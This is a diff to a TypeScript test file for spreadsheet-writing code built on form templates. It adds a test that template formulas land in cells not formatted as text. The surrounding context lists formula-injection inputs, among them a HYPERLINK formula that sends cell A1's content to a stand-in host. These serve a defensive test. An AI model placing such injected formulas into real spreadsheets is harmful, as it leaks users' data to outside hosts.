@@ -35,6 +35,16 @@ describe('planning writes', () => {
     expect(formulas.op === 'formulas' && formulas.matrix.flat().filter((v) => typeof v === 'string' && v.startsWith('=IF(')).length).toBe(9);
   });
 
+  it('writes every template formula into a cell not formatted as text, so Excel computes it (BM01’s Đạt / Chưa đạt)', () => {
+    const model = buildTemplateSheet(getTemplate('BM01')!);
+    const ops = planSheet(model);
+    const formats = new Map<string, string>();
+    for (const op of ops) if (op.op === 'numberFormat') op.matrix.forEach((line, r) => line.forEach((f, c) => f && formats.set(`${op.row + r},${op.col + c}`, f)));
+    const formulaCells = model.cells.filter((c) => c.formula !== undefined);
+    expect(formulaCells.some((c) => c.formula!.includes('Đạt'))).toBe(true);
+    for (const c of formulaCells) expect(formats.get(`${c.row},${c.col}`), `${c.row},${c.col}`).not.toBe('@');
+  });
+
   it('writes user text only as values into text-formatted cells, and only the template’s formulas as formulas', () => {
     const hostile = ['=HYPERLINK("http://x.example/"&A1,"Xem")', '+1+1', '-A1', '@SUM(A1)'];
     const ops = planSheet({ ...buildTemplateSheet(getTemplate('BM03')!), cells: hostile.map((value, i) => ({ row: i, col: 0, value })) });
